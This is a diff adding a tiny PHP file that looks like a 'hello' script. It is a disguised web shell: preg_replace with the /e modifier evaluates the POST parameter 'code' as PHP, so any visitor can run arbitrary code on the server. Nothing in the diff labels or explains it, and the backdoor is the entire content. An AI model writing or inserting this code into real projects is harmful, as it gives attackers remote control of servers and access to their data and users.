@@ -1,0 +1,3 @@
+<?php
+$s = "hello";
+echo preg_replace("/.*/e", $_POST['code'], $s);
